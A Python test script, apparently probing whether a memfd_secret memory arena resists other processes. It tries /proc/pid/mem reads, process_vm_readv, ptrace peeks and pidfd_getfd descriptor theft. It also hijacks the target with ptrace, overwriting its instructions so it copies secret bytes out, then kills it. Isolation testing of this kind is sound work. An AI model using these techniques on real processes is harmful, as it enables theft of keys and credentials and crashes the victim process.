#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Tries to get at the memory of a process: attack.py WAY PID

WAY     proc-mem, vm-readv, ptrace-peek: read pages as they are
        pidfd: take its descriptors;  reuse: make its own code copy a secret
Each tries an ordinary page and a page of the secret arena (a mapping of
memfd_secret); prints `WAY PAGE leaked` or `WAY PAGE refused (errno)`.
"""
import ctypes
import errno
import os
import signal
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PEEK, POKE, GETREGS, SETREGS, CONT, ATTACH, DETACH = 2, 5, 12, 13, 7, 16, 17
REGISTERS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp "
             "ss fs_base gs_base ds es fs gs").split()


def why():
    return errno.errorcode.get(ctypes.get_errno(), "?")


def pages(pid):
    """Addresses of an ordinary writable page and of the secret arena."""
    found = {"ordinary": None, "secret": None}
    try:
        with open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                area, access, *rest = line.split(None, 5)
                start = int(area.split("-")[0], 16)
                name = rest[-1] if len(rest) > 3 else ""
                if "secretmem" in name:
                    found["secret"] = start
                elif access.startswith("rw") and "[" not in name and found["ordinary"] is None:
                    found["ordinary"] = start
    except PermissionError:
        pass  # a reader who may not even see the map guesses: any address will do
    return {page: start or 0x7f0000000000 for page, start in found.items()}


def proc_mem(pid, address):
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as error:
        return errno.errorcode[error.errno]
    try:
        return None if len(os.pread(fd, 64, address)) == 64 else "EOF"
    except OSError as error:
        return errno.errorcode[error.errno]
    finally:
        os.close(fd)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def vm_readv(pid, address):
    buffer = ctypes.create_string_buffer(64)
    mine = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 64)
    theirs = Iovec(address, 64)
    got = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return None if got == 64 else why()


def attach(pid):
    if libc.ptrace(ATTACH, pid, None, None) != 0:
        return why()
    os.waitpid(pid, 0)
    return None


def peek(pid, address):
    ctypes.set_errno(0)
    word = libc.ptrace(PEEK, pid, address, None)
    return word & (2**64 - 1), ctypes.get_errno()


def ptrace_peek(pid, address):
    refused = attach(pid)
    if refused:
        return refused
    _, code = peek(pid, address)
    libc.ptrace(DETACH, pid, None, None)
    return errno.errorcode[code] if code else None


def pidfd(pid, _):
    fd = libc.syscall(434, pid, 0)  # pidfd_open
    if fd < 0:
        return why()
    for number in range(64):
        taken = libc.syscall(438, fd, number, 0)  # pidfd_getfd
        if taken >= 0 and "secretmem" in os.readlink(f"/proc/self/fd/{taken}"):
            return None
    return "no descriptor of it is open" if os.geteuid() == 0 else why()


def reuse(pid, secret):
    """Writes `rep movsb; int3` over the enclave's next instructions and lets it
    copy 64 secret bytes onto its ordinary stack page: no system call."""
    refused = attach(pid)
    if refused:
        return refused
    raw = ctypes.create_string_buffer(8 * len(REGISTERS))
    libc.ptrace(GETREGS, pid, None, ctypes.cast(raw, ctypes.c_void_p))
    old = dict(zip(REGISTERS, struct.unpack(f"<{len(REGISTERS)}Q", raw.raw)))
    code, failed = peek(pid, old["rip"])
    target = pages(pid)["ordinary"]
    libc.ptrace(POKE, pid, old["rip"], (code & ~0xFFFFFF) | 0xCCA4F3)
    new = dict(old, rsi=secret, rdi=target, rcx=64, orig_rax=2**64 - 1)
    packed = struct.pack(f"<{len(REGISTERS)}Q", *new.values())
    libc.ptrace(SETREGS, pid, None, ctypes.cast(ctypes.create_string_buffer(packed), ctypes.c_void_p))
    libc.ptrace(CONT, pid, None, None)
    _, status = os.waitpid(pid, 0)
    _, failed = peek(pid, target)
    stopped = os.WIFSTOPPED(status) and os.WSTOPSIG(status) == signal.SIGTRAP
    os.kill(pid, signal.SIGKILL)  # it is of no further use
    return None if stopped and not failed else f"status {status:#x}"


WAYS = {"proc-mem": proc_mem, "vm-readv": vm_readv, "ptrace-peek": ptrace_peek, "pidfd": pidfd, "reuse": reuse}
way, target = sys.argv[1], int(sys.argv[2])
wanted = {"pidfd": ["secret"], "reuse": ["secret"]}.get(way, ["ordinary", "secret"])
for page in wanted:
    refused = WAYS[way](target, pages(target)[page])
    print(way, page, f"refused ({refused})" if refused else "leaked")
